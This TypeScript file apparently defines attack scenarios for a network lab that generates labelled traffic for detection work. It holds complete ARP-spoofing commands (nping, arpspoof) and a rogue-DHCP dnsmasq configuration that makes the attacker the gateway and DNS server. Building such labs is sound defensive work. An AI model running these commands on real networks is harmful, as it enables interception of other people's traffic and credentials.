import { join } from 'node:path';
import { writeFileSync } from 'node:fs';
import { joinNetwork } from '../activities/joining.js';
import { GATEWAY, PCS } from '../hosts.js';
import type { Lab } from '../lab.js';
import { pause } from '../shell.js';
import { at, shell, type SetAttack } from './set_attack.js';

const LIAR = PCS[3]!;
const VICTIM = PCS[0]!;

const spoofing = {
  kind: 'arp_spoofing',
  stage: 'cred',
  technique: 'T1557.002',
  techniqueName: 'Adversary-in-the-Middle: ARP Cache Poisoning',
  attackers: [at(LIAR)],
  victims: [VICTIM.address, GATEWAY.address],
  host: LIAR.name,
  seconds: 30,
  // Its replies that claim the gateway's address; nobody answers them.
  filter:
    `arp and ether src ${LIAR.mac} and arp[6:2] = 2 and ` + `arp[14:4] = ${word(GATEWAY.address)}`,
} as const;

export const LINK_LAYER: readonly SetAttack[] = [
  {
    ...spoofing,
    name: 'arp_spoofing-nping',
    tool: 'nping',
    split: 'tune',
    command: ({ intensity }) => [
      ...['nping', '-q', '-H', '--arp', '--arp-type', 'ARP-reply', '-c', '100000'],
      ...['--delay', `${2 / intensity}s`, '--dest-mac', VICTIM.mac],
      ...['--arp-sender-mac', LIAR.mac, '--arp-sender-ip', GATEWAY.address],
      ...['--arp-target-mac', VICTIM.mac, '--arp-target-ip', VICTIM.address, VICTIM.address],
    ],
  },
  {
    ...spoofing,
    name: 'arp_spoofing-arpspoof',
    tool: 'arpspoof',
    split: 'test',
    // It sends every two seconds; a slower one is started for one reply at a time.
    command: ({ intensity }) =>
      intensity === 1
        ? ['arpspoof', '-i', 'eth0', '-t', VICTIM.address, GATEWAY.address]
        : shell([
            'while true; do',
            `timeout -s KILL 1 arpspoof -i eth0 -t ${VICTIM.address} ${GATEWAY.address}`,
            `sleep ${2 / intensity}`,
            'done',
          ]),
  },
  {
    name: 'rogue_dhcp-dnsmasq',
    kind: 'rogue_dhcp',
    stage: 'cred',
    technique: 'T1557.003',
    techniqueName: 'Adversary-in-the-Middle: DHCP Spoofing',
    tool: 'dnsmasq',
    split: 'tune',
    attackers: [at(LIAR)],
    victims: [VICTIM.address],
    host: LIAR.name,
    seconds: 15,
    beside: async (lab) => {
      await pause(3);
      await joinNetwork(lab);
    },
    command: (lab) => ['dnsmasq', '--keep-in-foreground', `--conf-file=${writeLeases(lab)}`],
    filter: `ether src ${LIAR.mac} and udp src port 67`,
  },
];

/** Leases with itself as the gateway and the name server. */
function writeLeases(lab: Lab): string {
  const file = join(lab.folder, 'rogue.conf');
  const settings = [
    'user=root',
    `pid-file=${lab.folder}/rogue.pid`,
    'port=0',
    'interface=eth0',
    'bind-interfaces',
    'quiet-dhcp',
    'dhcp-authoritative',
    'no-ping',
    'dhcp-range=10.20.0.200,10.20.0.220,2h',
    `dhcp-option=option:router,${LIAR.address}`,
    `dhcp-option=option:dns-server,${LIAR.address}`,
    `dhcp-leasefile=${lab.folder}/rogue.leases`,
  ];
  writeFileSync(file, `${settings.join('\n')}\n`);
  return file;
}

/** An IPv4 address as one number in a capture filter. */
function word(address: string): string {
  return `0x${Buffer.from(address.split('.').map(Number)).toString('hex')}`;
}
